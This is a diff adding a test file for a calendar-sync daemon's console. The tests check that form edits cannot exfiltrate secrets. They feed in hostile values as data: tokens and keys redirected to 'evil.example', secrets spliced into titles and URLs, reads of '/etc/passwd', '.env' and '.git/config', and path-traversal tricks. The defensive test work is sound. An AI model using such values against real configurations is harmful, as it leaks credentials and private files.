@@ -1,0 +1,117 @@
+import path from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { readConfig, type Config } from '../../../src/config.ts';
+import { refusedByForms } from '../../../src/config/change/form-limits.ts';
+import { rawIn } from '../../../src/config/splice/raw.ts';
+import { problemInWords } from '../../../src/cli/terminal/words.ts';
+
+// What an administrator of the site tries who is not to learn what the machine knows.
+
+const FILE = '/srv/town/calsyncd.yaml';
+const LIMITS = `
+operator: { environment: [SLACK] }
+fetch: { allow_files: [feeds, /srv/data] }
+`;
+const BEFORE = `
+sources:
+  library:
+    url: https://library.example/a.ics?key=\${LIBRARY_KEY}
+    auth: { bearer: "\${LIBRARY_TOKEN}" }
+    set: [{ when: [], title: "\${CITY} {0}" }, { title: 'Plain' }]
+  shared: { <<: { auth: { basic: { username: a, password: b } } }, url: "https://shared.example/a.ics" }
+  local: { url: "file:old/.hidden.ics" }
+alerts:
+  receivers:
+    phone: { ntfy: "https://ntfy.example/town", token: "\${NTFY_TOKEN}" }
+`;
+
+function configOf(): Config {
+  const { value, problems } = readConfig(FILE, Buffer.from(LIMITS), { DATA_DIR: '/srv/data' });
+  if (!value) throw new Error(problems.map(problemInWords).join('\n'));
+  return value;
+}
+
+const config = configOf();
+const refused = (after: string, before = BEFORE): readonly string[] =>
+  refusedByForms(rawIn(before), rawIn(after), config).map(({ where, message }) => `${where.field}: ${message}`);
+
+describe('a form of the console cannot', () => {
+  test.each<[what: string, from: string, to: string, field: string]>([
+    ['put a secret of the site into a title', 'Plain', '${SITE_APPLICATION_PASSWORD}', 'sources.library.set.title'],
+    ['nor within a text', 'Plain', 'on ${HOME}!', 'sources.library.set.title'],
+    ['nor with a default', 'Plain', '${HOME:-x}', 'sources.library.set.title'],
+    ['nor one that the file names elsewhere', 'Plain', '${LIBRARY_TOKEN}', 'sources.library.set.title'],
+    ['send a key to another server', 'library.example', 'evil.example', 'sources.library.url'],
+    ['add one to an address', 'shared.example/a.ics', 'shared.example/${HOME}', 'sources.shared.url'],
+    [
+      'copy a token to another receiver',
+      'receivers:',
+      'receivers:\n    evil: { ntfy: "https://evil.example/t", token: "${NTFY_TOKEN}" }',
+      'alerts.receivers.evil.token',
+    ],
+    ['move a receiver with its token', 'ntfy.example', 'evil.example', 'alerts.receivers.phone.ntfy'],
+    ['move a source with credentials that it shares', 'https://shared', 'https://evil', 'sources.shared.url'],
+    ['nor to the same without encryption', 'https://shared', 'http://shared', 'sources.shared.url'],
+    ['nor to another port', 'shared.example', 'shared.example:8443', 'sources.shared.url'],
+    ['read a dot-file beside the configuration', 'file:old/.hidden.ics', 'file:.env', 'sources.local.url'],
+    ['nor the configuration', 'file:old/.hidden.ics', 'file:calsyncd.yaml', 'sources.local.url'],
+    ['nor another file beside it', 'file:old/.hidden.ics', 'file:old/a.ics', 'sources.local.url'],
+    ['nor in capitals with blanks', 'file:old/.hidden.ics', ' FILE:old/a.ics', 'sources.local.url'],
+    ['nor one that is anywhere', 'file:old/.hidden.ics', 'file:///etc/passwd', 'sources.local.url'],
+    ['nor out of a folder that is named', 'file:old/.hidden.ics', 'file:feeds/../a.ics', 'sources.local.url'],
+    ['nor with escapes', 'file:old/.hidden.ics', 'file:feeds/%2e%2e/a.ics', 'sources.local.url'],
+    ['nor beside a folder that is named', 'file:old/.hidden.ics', 'file:feeds-of-others/a.ics', 'sources.local.url'],
+    ['nor a dot-file in one', 'file:old/.hidden.ics', 'file:feeds/%2eenv', 'sources.local.url'],
+    ['nor what is in a dot-folder', 'file:old/.hidden.ics', 'file:feeds/.git/config', 'sources.local.url'],
+    ['nor the database', 'file:old/.hidden.ics', 'file:/srv/data/postgres/data/PG_VERSION', 'sources.local.url'],
+    ['nor the folder itself', 'file:old/.hidden.ics', 'file:feeds', 'sources.local.url'],
+    ['hide one behind a name that is allowed', 'file:old/.hidden.ics', '${SLACK:-file:.env}', 'sources.local.url'],
+    ['take what is in no form of an address', 'file:old/.hidden.ics', 'calsyncd.yaml', 'sources.local.url'],
+  ])('%s', (_, from, to, field) => {
+    expect(BEFORE).toContain(from);
+    expect(refused(BEFORE.replace(from, () => to))).toContainEqual(expect.stringContaining(`${field}: `));
+  });
+
+  test('rename a source to keep what it may not have', () => {
+    const renamed = BEFORE.replace(
+      '  local:',
+      '  evil: { was: library, url: "https://evil.example/?${LIBRARY_KEY}" }\n  local:',
+    );
+    expect(refused(renamed)).toHaveLength(1);
+    const moved = BEFORE.replace('  library:', '  evil:\n    was: library').replace('library.example', 'evil.example');
+    expect(refused(moved)).toHaveLength(2);
+  });
+});
+
+describe('a form of the console can', () => {
+  test.each<[what: string, from: string, to: string]>([
+    ['leave what is there', 'Plain', 'Plain'],
+    ['change what stands beside it', 'Plain', 'Other'],
+    ['name what the configuration lists', 'receivers:', 'receivers:\n    office: { slack: "${SLACK}" }'],
+    ['write the sign itself', 'Plain', '$${HOME}'],
+    [
+      'move rules',
+      `{ when: [], title: "\${CITY} {0}" }, { title: 'Plain' }`,
+      `{ title: 'Plain' }, { when: [], title: "\${CITY} {0}" }`,
+    ],
+    ['change the path of an address with credentials', 'shared.example/a.ics', 'shared.example/b.ics'],
+    [
+      'take a receiver’s token away with its address',
+      'ntfy: "https://ntfy.example/town", token: "${NTFY_TOKEN}"',
+      'ntfy: "https://ntfy.example/other"',
+    ],
+    ['read a file in a folder that is named', 'file:old/.hidden.ics', 'file:feeds/a.ics'],
+    ['and below it', 'file:old/.hidden.ics', 'file:///srv/town/feeds/2027/a.ics'],
+    [
+      'and an uploaded one',
+      'file:old/.hidden.ics',
+      `file://${path.resolve('/srv/data/uploads')}/0123456789abcdef0123456789abcdef.ics`,
+    ],
+    ['read the web instead', 'file:old/.hidden.ics', 'webcal://library.example/a.ics'],
+    ['give a source another name', '  library:', '  books:\n    was: library'],
+    ['take a source out', '  local: { url: "file:old/.hidden.ics" }\n', ''],
+  ])('%s', (_, from, to) => {
+    expect(BEFORE).toContain(from);
+    expect(refused(BEFORE.replace(from, () => to))).toEqual([]);
+  });
+});
